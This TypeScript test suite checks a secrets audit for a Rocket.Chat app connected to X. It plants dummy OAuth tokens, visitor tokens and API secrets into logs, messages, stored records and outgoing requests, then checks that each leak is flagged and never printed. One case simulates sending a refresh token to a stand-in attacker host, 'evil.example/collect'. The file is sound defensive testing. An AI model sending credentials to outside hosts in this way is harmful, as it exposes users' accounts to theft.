/**
 * The secrets audit catches a planted leak in each kind of line it scans. Each case plants one secret in
 * one place, shaped exactly as Rocket.Chat and the runtime store it, into an otherwise clean record of a
 * run (which the audit passes, expected appearances included). The audit before this one missed every
 * case below: it dropped log lines from anonymous callers as "the runtime's", reported the runtime's lines
 * without asserting on them, listed neither visitor tokens, OAuth states, authorization codes nor rotated
 * refresh tokens, read neither the runtime's stderr, the endpoints' answers nor persisted records, and
 * looked at no outgoing request.
 */
import type { IMessage } from '@rocket.chat/apps-engine/definition/messages';
import type { IVisitor } from '@rocket.chat/apps-engine/definition/livechat';
import type { IUser } from '@rocket.chat/apps-engine/definition/users';
import type { ILoggerStorageEntry } from '@rocket.chat/apps-engine/server/logging';
import type { IAppStorageItem } from '@rocket.chat/apps-engine/server/storage';
import { HostStore, HttpExchange } from '../../tools/host/store';
import { DEFAULT_APP } from '../../tools/x-sim/defaults';
import { formatScan, scanSecrets, SimRecords } from './helpers/secrets';

const APP_ID = 'app-under-test';
const WEBHOOK_SEGMENT = 'WebhookSegment0123456789abcdef';
const VISITOR_TOKEN = 'visitor-token-0123456789abcdef';
const ACCESS_TOKEN = 'access-token-current-0123456789';
const REFRESH_TOKEN = 'refresh-token-current-0123456789';
const ROTATED_REFRESH_TOKEN = 'refresh-token-rotated-away-0123456789';
const AUTH_CODE = 'authorization-code-0123456789abcdef';
const OAUTH_STATE = 'oauth-state-0123456789abcdefghij';
const SETUP_ROOM = 'setup-room-id';

const sim: SimRecords = {
    issuedCredentials: () => [
        { kind: 'OAuth 2.0 authorization code', value: AUTH_CODE },
        { kind: 'OAuth 2.0 access token', value: ACCESS_TOKEN },
        { kind: 'OAuth 2.0 refresh token', value: ROTATED_REFRESH_TOKEN },
        { kind: 'OAuth 2.0 refresh token', value: REFRESH_TOKEN },
    ],
    requests: () => [{ path: '/i/oauth2/authorize', query: `response_type=code&state=${OAUTH_STATE}` }],
};

function logLine(store: HostStore, method: string, caller: string, args: unknown[]): void {
    store.appLogEntries.push({
        appId: APP_ID,
        method,
        entries: [{ caller, severity: 'debug', method, timestamp: new Date(), args }],
        startTime: new Date(),
        endTime: new Date(),
        totalTime: 1,
        _createdAt: new Date(),
    } as unknown as ILoggerStorageEntry);
}

function message(store: HostStore, roomId: string, text: string): void {
    const id = store.newId('m');
    store.messages.set(id, { id, room: { id: roomId }, text } as unknown as IMessage);
}

function request(store: HostStore, url: string, headers: Record<string, string>, body = ''): void {
    const exchange: HttpExchange = {
        at: 0,
        appId: APP_ID,
        method: 'GET',
        url,
        authorization: Object.keys(headers).some((h) => h.toLowerCase() === 'authorization'),
        sent: { url, headers, body },
    };
    store.httpExchanges.push(exchange);
}

/** A run's record as it looks when nothing leaked, with the secrets where they must be. */
function cleanRun(): HostStore {
    const store = new HostStore();
    store.appMetadata.set(APP_ID, {
        id: APP_ID,
        settings: {
            api_key_secret: { id: 'api_key_secret', type: 'password', value: DEFAULT_APP.consumerSecret },
        },
    } as unknown as IAppStorageItem);
    const persist = (id: string, data: Record<string, unknown>) =>
        store.appPersistence(APP_ID).set(id, { id, data, associations: [{ model: 'misc', id }] });
    persist('x-app-secrets', { webhookPath: WEBHOOK_SEGMENT, visitorTokenKey: 'visitor-token-key-0123456789' });
    persist('x-oauth2-tokens', { accessToken: ACCESS_TOKEN, refreshToken: REFRESH_TOKEN });
    persist('x-setup-room', { roomId: SETUP_ROOM });
    persist('x-conversation', { visitorToken: VISITOR_TOKEN });
    store.visitors.set('v1', { id: 'v1', token: VISITOR_TOKEN } as IVisitor);
    // The runtime's trace of an endpoint request (api-handler.ts) and of a saved setting (handler.ts).
    logLine(store, 'api:webhook/:secret:post', 'anonymous OR constructor -> apiHandler', [
        "webhook/:secret's api:webhook/:secret:post is being executed...",
        { params: { secret: WEBHOOK_SEGMENT }, content: {} },
    ]);
    logLine(store, 'app:onPreSettingUpdate', 'anonymous OR constructor -> formatResult', [
        {
            msg: "'onPreSettingUpdate' was successfully called! The result is:",
            appMethod: 'onPreSettingUpdate',
            result: { id: 'api_key_secret', value: DEFAULT_APP.consumerSecret },
        },
    ]);
    logLine(store, 'app:executePostMessageSent', 'anonymous OR constructor', ['Reply queued for X']);
    message(
        store,
        SETUP_ROOM,
        `Webhook URL: https://chat.example/api/apps/public/${APP_ID}/webhook/${WEBHOOK_SEGMENT}`,
    );
    message(store, 'livechat-room', 'Hello from the customer');
    store.ephemeral.push({
        at: 0,
        user: { username: 'admin' } as IUser,
        text: `Open https://x.com/i/oauth2/authorize?response_type=code&state=${OAUTH_STATE}`,
        message: {} as IMessage,
    });
    request(store, 'https://api.x.com/2/dm_conversations/with/1/messages', { Authorization: `Bearer ${ACCESS_TOKEN}` });
    request(store, 'https://video.twimg.com/dm_video/1/vid/720x1280/a.mp4', {});
    return store;
}

const scan = (store: HostStore, dmsOnX: { recipientId: string; text: string }[] = []) =>
    scanSecrets({ store, appId: APP_ID, sim, dmsOnX });

describe('the secrets audit catches a planted leak in every kind of line', () => {
    it('passes a clean run, secrets where they must be counted apart', () => {
        const clean = scan(cleanRun());
        expect(formatScan(clean)).toContain('→ 0 hits');
        expect(clean.expected).toEqual({
            'endpoint request data in the runtime trace': 1,
            "saved settings in the runtime's onPreSettingUpdate trace": 1,
            'webhook URL shown to admins in the setup room': 1,
            'OAuth state in the authorize link': 1,
            'install-time secrets in their record': 2,
            'OAuth 2.0 tokens in the account or pending-link record': 2,
            'visitor tokens in the conversation records': 1,
        });
        expect(clean.linesByKind).toMatchObject({ 'app log': 1, 'runtime trace': 2, message: 2, notice: 1 });
        expect(clean.requestsInspected).toBe(2);
        expect(clean.otherHosts).toEqual({ 'video.twimg.com': 1 });
    });

    it.each<[string, (store: HostStore) => void, string]>([
        [
            "an app log line from an anonymous callback (the minified app's .catch)",
            (s) =>
                logLine(s, 'app:executePostMessageSent', 'anonymous OR constructor', [
                    `Token refresh failed for ${REFRESH_TOKEN}`,
                ]),
            'OAuth 2.0 refresh token',
        ],
        [
            'an app log line with no caller at all',
            (s) => logLine(s, 'app:executePostMessageSent', 'anonymous', [{ state: OAUTH_STATE }]),
            'OAuth state',
        ],
        [
            "a runtime trace line other than an endpoint's request data or a saved setting",
            (s) =>
                logLine(s, 'app:executePostMessageSent', 'anonymous OR constructor -> formatResult', [
                    { msg: "'executePostMessageSent' was successfully called! The result is:", result: ACCESS_TOKEN },
                ]),
            'OAuth 2.0 access token',
        ],
        [
            'a rotated refresh token in a message to the agents',
            (s) => message(s, 'livechat-room', `debug: ${ROTATED_REFRESH_TOKEN}`),
            'OAuth 2.0 refresh token',
        ],
        [
            'a visitor token in a message to the agents',
            (s) => message(s, 'livechat-room', `Visitor ${VISITOR_TOKEN} wrote`),
            'visitor token',
        ],
        [
            'the webhook URL segment in a room other than the setup room',
            (s) => message(s, 'livechat-room', `/webhook/${WEBHOOK_SEGMENT}`),
            'webhook URL secret segment',
        ],
        [
            'the authorization code in an answer of the OAuth callback',
            (s) =>
                s.endpointAnswers.push({
                    at: 0,
                    appId: APP_ID,
                    route: 'oauth/callback',
                    status: 400,
                    headers: {},
                    content: `<p>Code ${AUTH_CODE} was refused</p>`,
                }),
            'OAuth 2.0 authorization code',
        ],
        [
            'the API Key Secret in the Deno process stderr',
            (s) => s.runtimeOutput.push({ source: 'deno stderr', text: `error: key ${DEFAULT_APP.consumerSecret}` }),
            'API Key Secret',
        ],
        [
            'the OAuth 2.0 Client Secret in an engine console line',
            (s) =>
                s.runtimeOutput.push({
                    source: 'engine console',
                    text: `Error executing handler ${DEFAULT_APP.clientSecret}`,
                }),
            'OAuth 2.0 Client Secret',
        ],
        [
            'the API Key Secret copied into a persisted record',
            (s) =>
                s.appPersistence(APP_ID).set('x-account', {
                    id: 'x-account',
                    data: { secret: DEFAULT_APP.consumerSecret },
                    associations: [{ model: 'misc', id: 'x-account' }],
                }),
            'API Key Secret',
        ],
        [
            'the OAuth state in a notice that is not the authorize link',
            (s) =>
                s.ephemeral.push({
                    at: 0,
                    user: { username: 'agent' } as IUser,
                    text: `state ${OAUTH_STATE} expired`,
                    message: {} as IMessage,
                }),
            'OAuth state',
        ],
    ])('%s', (_what, plant, secret) => {
        const store = cleanRun();
        plant(store);
        expect(scan(store).hits.map((h) => h.secret)).toEqual([secret]);
    });

    it('a visitor token in a DM sent on X', () => {
        const hits = scan(cleanRun(), [{ recipientId: '42', text: `your ref ${VISITOR_TOKEN}` }]).hits;
        expect(hits.map((h) => [h.secret, h.where])).toEqual([['visitor token', 'DM on X: DM to 42']]);
    });

    it('credentials in a request to a host that takes none, and nowhere but X', () => {
        for (const [url, headers, body, expected] of [
            ['https://video.twimg.com/dm_video/1/a.mp4', { Authorization: `Bearer ${ACCESS_TOKEN}` }, '', 2],
            ['https://evil.example/collect', {}, `refresh_token=${ROTATED_REFRESH_TOKEN}`, 1],
            ['https://pbs.twimg.com/dm_gif_preview/1/a.jpg', { Authorization: 'OAuth oauth_token="x"' }, '', 1],
        ] as const) {
            const store = cleanRun();
            request(store, url, headers, body);
            const { hits, otherHosts } = scan(store);
            expect(hits).toHaveLength(expected);
            expect(hits.every((h) => h.where.startsWith(`request GET ${new URL(url).hostname}`))).toBe(true);
            // The clean run already fetched one video from X's CDN, without credentials.
            expect(otherHosts[new URL(url).hostname]).toBe(url.includes('video.twimg.com') ? 2 : 1);
        }
    });

    it('never prints a secret it found', () => {
        const store = cleanRun();
        logLine(store, 'app:executePostMessageSent', 'anonymous OR constructor', [REFRESH_TOKEN]);
        const report = formatScan(scan(store));
        expect(report).toContain('<OAuth 2.0 refresh token>');
        expect(report).not.toContain(REFRESH_TOKEN);
    });
});
